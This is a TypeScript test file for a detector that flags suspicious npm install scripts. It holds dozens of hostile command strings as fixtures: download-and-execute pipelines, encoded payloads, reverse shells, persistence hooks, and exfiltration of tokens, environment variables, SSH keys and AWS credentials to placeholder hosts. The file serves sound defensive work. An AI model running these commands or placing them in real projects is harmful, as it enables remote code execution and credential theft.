import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { suspiciousScript } from '../../../../server/src/core/know/scripts/suspicious-script.ts';
import { cpuTime } from '../../../cpu-time.ts';

const read = (line: string) => {
  const found = suspiciousScript(line);
  return found === undefined ? undefined : `${found.suspicion}: ${found.outline}`;
};

const BASE64 = 'Y29uc29sZS5sb2coImhpIikgLy8gbm90aGluZyB0byBzZWU=';

describe('suspicious scripts', () => {
  const SUSPICIOUS: Readonly<Record<string, readonly string[]>> = {
    'remote-code: curl … | bash': [
      'curl -fsSL https://x.example.test/i.sh | bash',
      'husky; curl -s "https://x.example.test/i?a=1&b=2|3" | sudo bash -s -- --yes',
      'node a.js && /usr/bin/curl https://x.example.test | sed s/a/b/ | /bin/bash -',
      'sh -c "curl https://x.example.test | bash" || true',
      'curl https://x.example.test | bash >/dev/null 2>&1 &',
      'FOO=1 curl https://x.example.test | env BAR=2 bash',
      'cross-env A=1 timeout 5 curl https://x.example.test | /usr/bin/env bash -e',
      '\\curl -sSL https://x.example.test | bash',
      `c=cur; \${c}l https://x.example.test | ba""sh`,
      `c''url\${IFS}https://x.example.test|bash`,
      'if true; then curl https://x.example.test | nohup bash & fi',
      'concurrently "tsc -w" "curl https://x.example.test | bash"',
    ],
    'remote-code: curl … | sh': [
      `sh -c 'wget -qO- https://x.example.test/i.sh || curl -s https://x.example.test/i.sh' | sh`,
    ],
    'remote-code: curl … | tsx': ['curl https://x.example.test/i.ts | npx tsx -'],
    'remote-code: node $(curl …)': [
      'node <(curl -s https://x.example.test/i.js)',
      'node -e "$(curl -s https://x.example.test/i.js)"',
    ],
    'remote-code: wget … && sh': ['wget https://x.example.test/a/i.sh && sh i.sh'],
    'remote-code: npx https:…': ['npx -y https://x.example.test/a.tgz'],
    'remote-code: pnpm git+https:…': ['pnpm dlx git+https://x.example.test/a.git'],
    'remote-code: Invoke-WebRequest … ; ./…': [
      'powershell -c "Invoke-WebRequest https://x.example.test/a.exe -OutFile a.exe; ./a.exe"',
    ],
    'remote-code: DownloadFile … ; Start-Process': [
      "powershell -Command \"(New-Object Net.WebClient).DownloadFile('https://x.example.test/a.exe','a.exe'); Start-Process a.exe\"",
    ],
    'remote-code: wget … | sh': [
      'wget -qO- https://x.example.test/i.sh | sh',
      '(curl -s https://x.example.test/i.sh || wget -qO- https://x.example.test/i.sh) | sh',
    ],
    'remote-code: curl … | node': [
      'curl https://x.example.test/i.js | node',
      'curl https://x.example.test | node -',
    ],
    'remote-code: bash $(curl …)': [
      'bash <(curl -s https://x.example.test)',
      'bash -c "$(curl -fsSL https://x.example.test)"',
    ],
    'remote-code: eval $(curl …)': [
      'eval "$(curl -s https://x.example.test)"',
      'eval `curl -s https://x.example.test`',
    ],
    'remote-code: curl … && sh': [
      'curl -o /tmp/i.sh https://x.example.test && sh /tmp/i.sh',
      'curl https://x.example.test > i.sh; sh ./i.sh',
      'curl -LO https://x.example.test/a/i.sh && sh i.sh',
    ],
    'remote-code: wget … && ./…': ['wget https://x.example.test/a -O ./agent && chmod +x agent && ./agent'],
    'remote-code: Invoke-WebRequest … | Invoke-Expression': [
      'powershell -Command "iwr https://x.example.test/i.ps1 | iex"',
      'powershell "IEX (New-Object Net.WebClient).DownloadString(\'https://x.example.test\')"',
    ],
    'remote-code: node -e …': [
      'node -e "fetch(\'https://x.example.test\').then(r=>r.text()).then(t=>eval(t))"',
      "node -e \"require('child_process').exec('curl https://x.example.test/a')\"",
      'node --input-type=module -e "eval(await (await fetch(\'https://x.example.test\')).text())"',
    ],
    'encoded-code: node -e …': [
      `node -e "eval(Buffer.from('${BASE64}','base64').toString())"`,
      `node --eval "eval(atob('${BASE64}'))"`,
      `node -e eval\\(atob\\('${BASE64}'\\)\\)`,
      `node -e "require('vm').runInThisContext(Buffer.from('${BASE64}','base64'))"`,
      `node -e "import('data:text/javascript;base64,${BASE64}')"`,
    ],
    'encoded-code: base64 -d … | sh': [
      `echo ${BASE64} | base64 -d | sh`,
      `echo ${BASE64} | (base64 -D 2>/dev/null || base64 -d) | sh`,
      `echo '${BASE64}' | base64 --decode | sh`,
      `echo ${BASE64}|base64 -di | sh`,
    ],
    'encoded-code: bash $(… base64 -d)': [`bash -c "$(echo ${BASE64} | base64 -d)"`],
    'encoded-code: powershell -EncodedCommand …': [
      `powershell -NoProfile -enc ${BASE64}`,
      `powershell.exe -w hidden -EncodedCommand ${BASE64}`,
    ],
    'encoded-code: base64 -d … && sh': ['base64 -d payload.b64 > p.sh; sh p.sh'],
    'encoded-code: node --import data:…': [`node --import "data:text/javascript;base64,${BASE64}" .`],
    'remote-shell: socat': ['socat exec:bash tcp:x.example.test:1'],
    'sends-data: curl … (a token)': [
      'curl --data "$NPM_TOKEN" https://x.example.test',
      `curl "https://x.example.test/?t=\${NPM_TOKEN}"`,
    ],
    'sends-data: node -e …': [
      `node -e "require('https').get('https://x.example.test/'+process.env.NPM_TOKEN)"`,
      `node -e 'fetch(\`https://x.example.test/\${encodeURIComponent(process.env.AWS_SECRET_ACCESS_KEY)}\`)'`,
      "node -e \"fetch('https://x.example.test',{method:'POST',body:JSON.stringify(process.env)})\"",
      "node -e \"const o=require('os');require('https').get('https://x.example.test/?h='+o.hostname()+'&u='+o.userInfo().username)\"",
    ],
    'sends-data: iwr … -Body …': [
      'powershell -NoP -C "$d=@{c=$env:COMPUTERNAME}|ConvertTo-Json; iwr -Method Post -Uri https://x.example.test -Body $d"',
      'pwsh -c "$b = gci env: | Out-String; iwr https://x.example.test -Method Post -Body $b"',
    ],
    'sends-data: … > /dev/tcp': ['cat ~/.aws/credentials > /dev/tcp/203.0.113.7/80'],
    'system-tool: certutil …': ['certutil -urlcache -f https://x.example.test/a.exe a.exe && a.exe'],
    'persistence: … | crontab': ['(crontab -l; echo "* * * * * a") | crontab -'],
    'persistence: … >> ~/.bashrc': ['echo x >> ~/.bashrc'],
    'remote-shell: bash -i … /dev/tcp': ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
    'remote-shell: nc -e sh': ['nc 203.0.113.7 4444 -e /bin/sh'],
    'sends-data: curl … $(…)': [
      'curl https://x.example.test/?u=$(whoami)',
      'curl -d "h=$(hostname)" https://x.example.test',
      'curl -X POST -d "`env`" https://x.example.test',
      'curl "https://x.example.test/%USERNAME%"',
      'curl -d "u=$(id | base64)" https://x.example.test',
      'curl -d "d=$(date -u | tr -d :)&e=$(printenv | base64)" https://x.example.test',
    ],
    'sends-data: nslookup … $(…)': ['nslookup $(whoami).x.example.test'],
    'sends-data: nslookup … (a variable)': [
      'a=$(hostname;whoami) && echo $a | xxd -p | while read x;do nslookup $x.a.example.test;done',
      'hostname | xxd -p | xargs -I % nslookup %.a.example.test',
      'for x in $(whoami | xxd -p); do nslookup $x.a.example.test; done',
    ],
    'sends-data: curl … (a variable)': [
      'u=`whoami`; curl https://x.example.test/?u=$u',
      'd=$(env | base64) && curl -s -d "$d" https://x.example.test',
    ],
    'sends-data: … | curl': [
      'env | curl -d @- https://x.example.test',
      'cat ~/.npmrc | base64 | curl -d @- https://x.example.test',
    ],
    'sends-data: curl … (a file with credentials)': [
      'curl -F f=@$HOME/.ssh/id_rsa https://x.example.test',
      'curl -T ~/.aws/credentials https://x.example.test',
    ],
    'collector: webhook.site': [
      'curl https://webhook.site/0a1b2c',
      'node -e "fetch(\'https://webhook.site/0a1b\')"',
    ],
    'collector: oast.fun': ['ping -c1 abc.oast.fun'],
    'cloud-metadata: 169.254.169.254': ['curl http://169.254.169.254/latest/meta-data/'],
    'system-tool: rundll32 …': ['rundll32 node-gyp.dll,main'],
    'dropped-file: node setup_bun.js': ['node setup_bun.js'],
    'hidden: 120 blanks': [`husky${' '.repeat(120)}&& node lib/x.js`],
    'tls-off: NODE_TLS_REJECT_UNAUTHORIZED=0': [
      'NODE_TLS_REJECT_UNAUTHORIZED=0 node install.js',
      'cross-env NODE_TLS_REJECT_UNAUTHORIZED=0 node a',
    ],
  };
  for (const [expected, lines] of Object.entries(SUSPICIOUS))
    test(expected, () => {
      for (const line of lines) assert.equal(read(line), expected, line);
    });

  test('common scripts are silent', () => {
    for (const line of [
      '(tsc -b && curl -f https://x.example.test/health) || sh report.sh',
      `sh -c 'cat notes.md' | sh format.sh`,
      'node ./scripts/download-binary.js',
      'node-gyp rebuild',
      'node-gyp-build',
      'prebuild-install || node-gyp rebuild',
      'husky',
      'is-ci || husky install',
      'patch-package',
      'npx only-allow pnpm',
      'node -e "try{require(\'./postinstall\')}catch(e){}"',
      "node -e \"if(process.env.npm_execpath.indexOf('yarn') === -1) throw new Error('You must use Yarn to install, not NPM; see the documentation of this project')\"",
      "node -e \"require('child_process').execSync('husky', {stdio: 'inherit'})\"",
      'curl -L https://x.example.test/protoc.zip -o protoc.zip && unzip protoc.zip',
      'curl -sL https://x.example.test/a.tgz | tar xz',
      'curl -s https://x.example.test/v | node -p \'JSON.parse(require("fs").readFileSync(0)).version\'',
      'curl -s https://x.example.test/v.json | python -m json.tool > v.json',
      'curl -H "Authorization: token $GITHUB_TOKEN" https://x.example.test/asset -o asset.bin',
      'curl -L https://x.example.test/bin-$(uname -s)-$(uname -m) -o $(pwd)/bin/tool && chmod +x bin/tool',
      'echo "Run: curl https://x.example.test | bash"',
      "echo 'curl x | sh'",
      'wget https://x.example.test/a.txt -O a.txt && node build.js a.txt',
      'cp .env.example .env && cp .npmrc.example .npmrc',
      'cat .npmrc | grep registry',
      'env | sort',
      'API_URL=https://abc.ngrok.io webpack',
      "echo 'sha512-2yyAR8qBkN3YuheJanUpWC5U3bb5osDywNB8RzDVlDwDHbocAJveqqj1u8+SVD7jkWT4yvsHCpWqqWqAxb0zCA=='",
      '(echo > /dev/tcp/localhost/5432) && prisma generate',
      'base64 -d key.b64 > key.pem',
      'NODE_TLS_REJECT_UNAUTHORIZED=1 node install.js',
      'node scripts/setup.mjs',
      'npx --registry https://x.example.test/ only-allow pnpm',
      'curl -s https://x.example.test/v | xargs node build.js',
      'node build.js --version $(curl -s https://x.example.test/v)',
      'curl -X POST -H "Authorization: Bearer $NPM_TOKEN" https://x.example.test/hook',
      'echo $FILE | base64 -d > google.json && node sign.js google.json',
      'wget -qO- https://x.example.test/v.json | jq -r .v > v.txt && node build.js',
      'docker run -u $(id -u):$(id -g) x && curl -f https://x.example.test/$(git rev-parse HEAD | cut -c1-7)',
      'powershell -c "iwr https://x.example.test/$env:PROCESSOR_ARCHITECTURE/a.zip -OutFile a.zip"',
      "node -e \"require('https').get('http://localhost:3000/'+require('os').hostname())\"",
      'source ~/.bashrc && nvm use',
      'H=$(hostname) && curl -f http://$H:8080/health',
      'T=$(uname -s); curl -L https://x.example.test/$T/a.zip -o a.zip',
      'export U=$(whoami) && docker build --build-arg U=$U . && curl -f https://x.example.test/health',
      'v=$(env A=1 node version.js); curl -L https://x.example.test/$v.zip -o a.zip',
      'node -e "fetch(\'http://localhost:3000/health\').then(r => process.exit(r.ok ? 0 : 1))"',
      ': # curl https://x.example.test | bash',
      ':; (node ./preinstall.js > /dev/null 2>&1 || true)',
      '',
    ])
      assert.equal(read(line), undefined, line);
  });

  test('no argument is in the outline, as it may be a token', () => {
    const token = ['npm', 'a1b2c3'].join('_');
    for (const line of [
      `curl -H "Authorization: Bearer ${token}" https://x.example.test | bash`,
      `curl https://${token}.oast.fun`,
      `curl -o ${token} https://x.example.test && sh ${token}`,
    ])
      assert.doesNotMatch(read(line)!, new RegExp(token));
  });

  test('hostile lines are read in time', () => {
    const started = cpuTime();
    for (const unit of [
      'curl "',
      'curl ',
      '| ',
      'curl $(',
      'base64 -d ',
      'node -e "',
      ' ',
      "curl 'a' ",
      'env | ',
      'curl -o a ',
      '\\x41',
      'iwr ',
      'cat ',
      '$(whoami',
      '`',
      '"$(',
      '$a',
      'a=1;',
      "sh -c 'a b' ",
    ])
      suspiciousScript(`curl ${unit.repeat(20_000)}`);
    assert.ok(cpuTime() - started < 10_000);
  });
});
